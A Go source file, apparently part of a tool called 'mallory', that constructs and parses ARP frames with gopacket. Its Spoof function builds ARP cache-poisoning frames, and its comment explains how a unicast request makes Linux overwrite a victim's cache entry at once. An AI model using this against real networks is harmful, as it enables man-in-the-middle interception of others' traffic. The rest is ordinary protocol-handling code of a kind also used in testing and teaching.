package mallory

import (
	"errors"
	"fmt"
	"net"
	"net/netip"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
)

// Broadcast is the Ethernet broadcast address.
var Broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// ARPFrame is one ARP message for IPv4 over Ethernet, with the Ethernet
// header it travels in.
type ARPFrame struct {
	EthSrc, EthDst net.HardwareAddr // the Ethernet header
	Op             uint16           // layers.ARPRequest or layers.ARPReply
	SenderMAC      net.HardwareAddr // "SenderIP is at SenderMAC": what a receiver caches
	SenderIP       netip.Addr
	TargetMAC      net.HardwareAddr // zero in a request
	TargetIP       netip.Addr
}

// String is the frame as tcpdump prints it.
func (f ARPFrame) String() string {
	if f.Op == layers.ARPRequest {
		return fmt.Sprintf("%s > %s: who-has %s tell %s (%s)", f.EthSrc, f.EthDst, f.TargetIP, f.SenderIP, f.SenderMAC)
	}
	return fmt.Sprintf("%s > %s: %s is-at %s", f.EthSrc, f.EthDst, f.SenderIP, f.SenderMAC)
}

// Spoof is the frame that tells victim (victimMAC, victimIP) that claimIP is
// at mac. It is a request for the victim's own address, sent to the victim
// alone: Linux caches the sender of a request for one of its addresses
// whether or not it had an entry for it (an unsolicited reply only updates
// an entry that exists), and it overrides the entry at once.
func Spoof(mac net.HardwareAddr, claimIP netip.Addr, victimMAC net.HardwareAddr, victimIP netip.Addr) ARPFrame {
	return ARPFrame{
		EthSrc: mac, EthDst: victimMAC, Op: layers.ARPRequest,
		SenderMAC: mac, SenderIP: claimIP,
		TargetMAC: make(net.HardwareAddr, 6), TargetIP: victimIP,
	}
}

// Who is the broadcast request that asks who has ip.
func Who(mac net.HardwareAddr, self, ip netip.Addr) ARPFrame {
	return ARPFrame{
		EthSrc: mac, EthDst: Broadcast, Op: layers.ARPRequest,
		SenderMAC: mac, SenderIP: self,
		TargetMAC: make(net.HardwareAddr, 6), TargetIP: ip,
	}
}

// Marshal builds the frame's bytes with gopacket's layers.
func (f ARPFrame) Marshal() ([]byte, error) {
	if !f.SenderIP.Is4() || !f.TargetIP.Is4() {
		return nil, errors.New("arp: IPv4 addresses only")
	}
	for _, m := range []net.HardwareAddr{f.EthSrc, f.EthDst, f.SenderMAC, f.TargetMAC} {
		if len(m) != 6 {
			return nil, fmt.Errorf("arp: hardware address %q is not Ethernet", m)
		}
	}
	eth := &layers.Ethernet{SrcMAC: f.EthSrc, DstMAC: f.EthDst, EthernetType: layers.EthernetTypeARP}
	sip, tip := f.SenderIP.As4(), f.TargetIP.As4()
	arp := &layers.ARP{
		AddrType: layers.LinkTypeEthernet, Protocol: layers.EthernetTypeIPv4,
		HwAddressSize: 6, ProtAddressSize: 4, Operation: f.Op,
		SourceHwAddress: f.SenderMAC, SourceProtAddress: sip[:],
		DstHwAddress: f.TargetMAC, DstProtAddress: tip[:],
	}
	buf := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{}, eth, arp); err != nil {
		return nil, fmt.Errorf("arp: %w", err)
	}
	// Ethernet's minimum frame is 60 bytes before the FCS: pad it, as a
	// NIC would.
	b := buf.Bytes()
	for len(b) < 60 {
		b = append(b, 0)
	}
	return b, nil
}

// ParseARP decodes an Ethernet frame carrying ARP for IPv4. Anything else
// is an error that says what it is.
func ParseARP(frame []byte) (ARPFrame, error) {
	var (
		eth layers.Ethernet
		arp layers.ARP
	)
	if err := eth.DecodeFromBytes(frame, gopacket.NilDecodeFeedback); err != nil {
		return ARPFrame{}, fmt.Errorf("not an Ethernet frame: %w", err)
	}
	if eth.EthernetType != layers.EthernetTypeARP {
		return ARPFrame{}, fmt.Errorf("not ARP: ethertype %s", eth.EthernetType)
	}
	if err := arp.DecodeFromBytes(eth.Payload, gopacket.NilDecodeFeedback); err != nil {
		return ARPFrame{}, fmt.Errorf("bad ARP: %w", err)
	}
	if arp.AddrType != layers.LinkTypeEthernet || arp.Protocol != layers.EthernetTypeIPv4 ||
		arp.HwAddressSize != 6 || arp.ProtAddressSize != 4 ||
		len(arp.SourceHwAddress) != 6 || len(arp.DstHwAddress) != 6 ||
		len(arp.SourceProtAddress) != 4 || len(arp.DstProtAddress) != 4 {
		return ARPFrame{}, errors.New("not ARP for IPv4 over Ethernet")
	}
	if arp.Operation != layers.ARPRequest && arp.Operation != layers.ARPReply {
		return ARPFrame{}, fmt.Errorf("unknown ARP operation %d", arp.Operation)
	}
	return ARPFrame{
		EthSrc: clone(eth.SrcMAC), EthDst: clone(eth.DstMAC), Op: arp.Operation,
		SenderMAC: clone(arp.SourceHwAddress), SenderIP: netip.AddrFrom4([4]byte(arp.SourceProtAddress)),
		TargetMAC: clone(arp.DstHwAddress), TargetIP: netip.AddrFrom4([4]byte(arp.DstProtAddress)),
	}, nil
}

func clone(m []byte) net.HardwareAddr { return append(net.HardwareAddr(nil), m...) }
